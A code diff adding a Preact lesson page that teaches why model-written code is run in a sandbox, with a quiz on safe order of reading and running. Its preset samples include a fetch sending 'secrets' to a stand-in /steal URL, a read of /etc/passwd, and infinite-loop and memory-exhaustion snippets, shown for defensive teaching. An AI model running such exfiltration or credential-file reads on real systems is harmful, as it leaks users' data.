@@ -1,0 +1,123 @@
+/** Lesson: what a model wrote is run where it can do no harm. */
+import { useSignal } from "@preact/signals";
+import type { JavaScriptRun } from "../../../src/record/sandbox-run.ts";
+import { post } from "../server.ts";
+import { useAsking } from "./asking.ts";
+import { Answer, Check, Experiment, Notice, TextField } from "./pieces.tsx";
+
+const PRESETS: readonly { title: string; code: string }[] = [
+  { title: "a sum", code: "const prices = [3, 4, 5];\nconsole.log(prices.reduce((sum, each) => sum + each, 0));" },
+  { title: "the network", code: 'fetch("https://example.com/steal?what=secrets");' },
+  { title: "your files", code: 'require("fs").readFileSync("/etc/passwd", "utf8");' },
+  { title: "without end", code: "while (true) {}" },
+  { title: "all the memory", code: "const all = [];\nwhile (true) all.push(new Array(1000000).fill(1));" },
+];
+
+/** The lesson. */
+export function SandboxLesson() {
+  const code = useSignal(PRESETS[0]?.code ?? "");
+  const ran = useSignal<JavaScriptRun | undefined>(undefined);
+  const isBusy = useSignal(false);
+  const problem = useSignal<string | undefined>(undefined);
+  const drawing = useAsking();
+  const run = async (): Promise<void> => {
+    isBusy.value = true;
+    problem.value = undefined;
+    ran.value = undefined;
+    try {
+      ran.value = await post<JavaScriptRun>("/api/learn/javascript", { code: code.value });
+    } catch (error) {
+      problem.value = error instanceof Error ? error.message : String(error);
+    }
+    isBusy.value = false;
+  };
+  const draw = (): void =>
+    void drawing.run([
+      { model: "pocket/pocket-m", prompt: "Draw a pelican riding a bicycle as SVG", options: { temperature: 0 } },
+    ]);
+  return (
+    <>
+      <p>
+        What a model writes is as untrusted as a letter from a stranger: it may be wrong, and it may have been told by
+        someone else what to write. As long as it is read nothing happens. Once it is run, as a program or as a page, it
+        has all the rights of whatever runs it.
+      </p>
+      <p>
+        A sandbox is a place with fewer rights. penny scores programs of models in one that has no files, no network, no
+        other programs, and little time and memory. Drawings are never put into this page as they are: SVG may hold
+        scripts and addresses, so the server draws it and gives out the picture.
+      </p>
+      <Experiment
+        title="run something bad"
+        run={() => void run()}
+        runText="Run it in the sandbox"
+        isBusy={isBusy.value}
+        problem={problem.value}
+        fields={
+          <>
+            <TextField
+              label="JavaScript"
+              rows={4}
+              value={code.value}
+              onChange={(value) => {
+                code.value = value;
+              }}
+            />
+            <div class="wide presets">
+              {PRESETS.map((each) => (
+                <button
+                  key={each.title}
+                  type="button"
+                  aria-pressed={code.value === each.code}
+                  onClick={() => {
+                    code.value = each.code;
+                  }}
+                >
+                  {each.title}
+                </button>
+              ))}
+            </div>
+          </>
+        }
+      >
+        {ran.value && (
+          <div class="answer">
+            {ran.value.printed.map((line, index) => (
+              <div key={index} class="said code">
+                {line}
+              </div>
+            ))}
+            {ran.value.error !== undefined && <div class="said failed">{ran.value.error}</div>}
+            {ran.value.error === undefined && ran.value.printed.length === 0 && (
+              <p class="soft">It ran and printed nothing.</p>
+            )}
+          </div>
+        )}
+        <p class="again">
+          <button type="button" onClick={draw} disabled={drawing.isBusy.value}>
+            Let pocket-m draw a pelican
+          </button>
+        </p>
+        {drawing.calls.value.length > 0 && <Answer title="pocket-m" call={drawing.calls.value[0]} draws />}
+      </Experiment>
+      <Notice>
+        <p>
+          <code>fetch</code> and <code>require</code> are not forbidden there: they do not exist. The loop without end
+          is ended after some seconds, and this page never froze, as the program runs in a process of its own. Of the
+          drawing you see a picture; its source is text.
+        </p>
+      </Notice>
+      <Check
+        lesson="sandbox"
+        question="You want to try a script that a model wrote. What is the safest order?"
+        options={[
+          "Run it, and read it if something looks odd.",
+          "Ask the model whether it is safe, then run it.",
+          "Read it, then run it where it can reach nothing of value.",
+        ]}
+        right={2}
+        why="The model’s own word proves nothing, and after the run it is too late."
+      />
+    </>
+  );
+}
